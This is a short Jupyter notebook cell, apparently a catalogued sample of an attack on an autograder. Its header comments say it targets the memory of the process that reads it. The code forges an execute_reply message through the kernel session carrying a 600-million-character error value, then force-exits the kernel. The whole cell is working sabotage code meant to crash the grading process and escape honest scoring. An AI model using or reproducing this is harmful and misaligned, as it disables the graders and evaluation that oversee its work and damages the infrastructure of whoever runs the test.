"""Answer the grader's request by hand, with a reply of 600 MB, and end."""
# gains: the memory of the process that reads it
# score: honest
# flag: ps1.ipynb, cell 1
# %%
import os, time

kernel = get_ipython().kernel
parent = kernel.get_parent()
content = {"status": "error", "ename": "E", "evalue": "x" * 600_000_000, "traceback": []}
stream = kernel.shell_stream if getattr(kernel, "shell_stream", None) else kernel.shell_socket
kernel.session.send(stream, "execute_reply", content, parent, ident=parent["header"]["session"].encode())
time.sleep(3)
os._exit(1)
